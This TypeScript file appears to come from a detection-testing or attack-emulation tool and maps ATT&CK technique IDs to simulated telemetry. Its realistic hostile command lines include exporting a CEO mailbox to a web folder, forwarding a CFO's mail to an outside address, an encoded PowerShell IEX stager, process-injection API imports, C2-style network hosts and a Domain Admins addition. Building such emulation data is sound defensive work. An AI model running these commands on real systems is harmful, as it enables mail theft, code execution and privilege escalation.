import { v } from "../dsl";
import type { Variant } from "../types";

/** Extra named-tool variants (see ../extras.ts). */
export const extrasB: Readonly<Record<string, readonly Variant[]>> = {
  "T1087.001": [
    v("get-localgroupmember-cli", [
      'powershell.exe -nop -c "Get-LocalGroupMember -Name Administrators; Get-LocalUser"',
    ]),
  ],
  T1078: [
    v(
      "rdp-public-ip",
      [
        {
          by: "@system",
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "ext",
              user: "@user",
              logonType: 10,
              source: "{{ip}}",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none", needs: ["RDP exposed to the internet"] },
    ),
  ],
  "T1078.002": [
    v(
      "rdp-public-ip",
      [
        {
          by: "@system",
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "ext",
              user: "@user",
              logonType: 10,
              source: "{{ip}}",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none", needs: ["RDP exposed to the internet"] },
    ),
  ],
  T1110: [
    v(
      "rdp-brute-public",
      [
        {
          by: "@system",
          then: [
            ...[1, 2, 3, 4, 5, 6].map((n) => ({
              id: `f${n}`,
              kind: "logon.failure" as const,
              host: "@server",
              user: "administrator",
              logonType: 3,
              source: "{{ip}}",
            })),
            {
              id: "ok",
              kind: "logon",
              host: "@server",
              session: "bf",
              user: "@admin",
              logonType: 10,
              source: "{{ip}}",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none", needs: ["RDP exposed to the internet"] },
    ),
  ],
  "T1110.001": [
    v(
      "rdp-guessing-public",
      [
        {
          by: "@system",
          then: [
            ...[1, 2, 3, 4, 5, 6, 7, 8].map((n) => ({
              id: `f${n}`,
              kind: "logon.failure" as const,
              host: "@server",
              user: "{{admin}}",
              logonType: 3,
              source: "{{ip}}",
            })),
            {
              id: "ok",
              kind: "logon",
              host: "@server",
              session: "pg",
              user: "@admin",
              logonType: 10,
              source: "{{ip}}",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none" },
    ),
  ],
  "T1110.003": [
    v(
      "rdp-spray-public",
      [
        {
          by: "@system",
          then: [
            ...["alice", "bob", "carol", "dave", "erin", "frank"].map((u, n) => ({
              id: `f${n}`,
              kind: "logon.failure" as const,
              host: "@server",
              user: u,
              logonType: 3,
              source: "{{ip}}",
            })),
            {
              id: "ok",
              kind: "logon",
              host: "@server",
              session: "sp",
              user: "@user",
              logonType: 10,
              source: "{{ip}}",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none" },
    ),
  ],
  "T1110.004": [
    v(
      "rdp-stuffing-public",
      [
        {
          by: "@system",
          then: [
            ...[1, 2, 3, 4].map((n) => ({
              id: `f${n}`,
              kind: "logon.failure" as const,
              host: "@server",
              user: `j.smith${n}`,
              logonType: 3,
              source: "{{ip}}",
              subStatus: "0xc0000064",
            })),
            {
              id: "ok",
              kind: "logon",
              host: "@server",
              session: "cs",
              user: "@user",
              logonType: 10,
              source: "{{ip}}",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none" },
    ),
  ],
  "T1114.002": [
    v(
      "exchange-snapin-export",
      [
        {
          cmd: 'powershell.exe -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ceo -FilePath \\\\{{srv}}\\C$\\inetpub\\wwwroot\\aspnet_client\\ceo.pst"',
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
        },
      ],
      { shell: "none" },
    ),
  ],
  "T1114.003": [
    v(
      "exchange-snapin-forward",
      [
        {
          cmd: 'powershell.exe -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Set-Mailbox -Identity cfo -ForwardingSmtpAddress smtp:{{rand}}@proton.me"',
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
        },
      ],
      { shell: "none" },
    ),
  ],
  T1123: [
    v("audiodevice-cmdlet", [
      'powershell.exe -c "Import-Module WindowsAudioDevice-Powershell-Cmdlet; Get-AudioDevice -List; Set-AudioDevice -ID 1"',
    ]),
    v(
      "recorder-in-temp",
      [
        {
          cmd: "C:\\Windows\\Temp\\{{rand}}.exe --record 120",
          image: "C:\\Windows\\Temp\\{{rand}}.exe",
          then: [
            {
              id: "cam",
              kind: "registry.value.set",
              proc: "@svchost:LocalSystemNetworkRestricted",
              key: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\CapabilityAccessManager\\ConsentStore\\microphone\\NonPackaged\\C:#Windows#Temp#{{rand}}.exe",
              value: "LastUsedTimeStart",
              type: "REG_QWORD",
              data: "0x01db{{rand2}}",
            },
          ],
        },
      ],
      { elevated: true },
    ),
  ],
  T1125: [
    v("capture-from-public", [
      {
        cmd: "C:\\Users\\Public\\{{rand}}.exe -cam 0 -t 30",
        then: [
          {
            id: "cam",
            kind: "registry.value.set",
            proc: "@svchost:LocalSystemNetworkRestricted",
            key: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\CapabilityAccessManager\\ConsentStore\\webcam\\NonPackaged\\C:#Users#Public#{{rand}}.exe",
            value: "LastUsedTimeStart",
            type: "REG_QWORD",
            data: "0x01db{{rand2}}",
          },
        ],
      },
    ]),
  ],
  "T1132.001": [
    v(
      "gzip-stager",
      [
        {
          cmd: "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAK1WbW/aSBD+3l+xqpBsK+AYQ1qI{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"",
          parent: "@explorer",
        },
      ],
      { shell: "none" },
    ),
  ],
  T1132: [
    v(
      "gzip-stager",
      [
        {
          cmd: "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAKVWbW/bNhD+7l8hCAUkIbasKG6{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"",
          parent: "@explorer",
        },
      ],
      { shell: "none" },
    ),
  ],
  T1106: [
    v(
      "ps-shellcode-runner",
      [
        {
          ps: '$k = Add-Type -MemberDefinition \'[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p); [DllImport("kernel32.dll")] public static extern IntPtr OpenProcess(uint a, bool b, int p); [DllImport("kernel32.dll")] public static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int s, out IntPtr w); [DllImport("kernel32.dll")] public static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr i);\' -Name k32 -PassThru; $h = $k::OpenProcess(0x1F0FFF, $false, (Get-Process explorer).Id)',
          access: ["@explorer", "0x1f0fff"],
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1071.001": [
    v("vscode-tunnel", [
      {
        cmd: '"{{local}}\\Programs\\Microsoft VS Code\\bin\\code.cmd" tunnel --accept-server-license-terms --name {{me}}-dev',
        image: "{{local}}\\Programs\\Microsoft VS Code\\Code.exe",
        dns: ["global.rel.tunnels.api.visualstudio.com", "{{rand}}-{{n}}.euw.devtunnels.ms"],
        net: [["{{rand}}-{{n}}.euw.devtunnels.ms", 443]],
      },
    ]),
  ],
  "T1090.002": [
    v(
      "portmap-io",
      [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{rand}}.portmap.io", 3306]], keep: true }],
      { shell: "none" },
    ),
  ],
  T1102: [
    v("telegram-api", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["api.telegram.org", 443]], keep: true }], {
      shell: "none",
    }),
  ],
  "T1102.001": [
    v(
      "azurewebsites-dead-drop",
      [
        {
          cmd: "{{local}}\\{{name}}\\{{name}}.exe",
          net: [
            ["{{rand}}.azurewebsites.net", 443],
            ["{{c2ip}}", 443],
          ],
        },
      ],
      { shell: "none" },
    ),
  ],
  "T1102.003": [
    v(
      "google-drive-api",
      [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["www.googleapis.com", 443]], keep: true }],
      { shell: "none" },
    ),
  ],
  T1098: [
    v(
      "domain-admins-add",
      [
        {
          cmd: 'net group "Domain Admins" {{user}} /add /domain',
          then: [{ id: "g", kind: "group.member.add", user: "@user", group: "Domain Admins" }],
        },
      ],
      { user: "@admin", elevated: true },
    ),
  ],
};
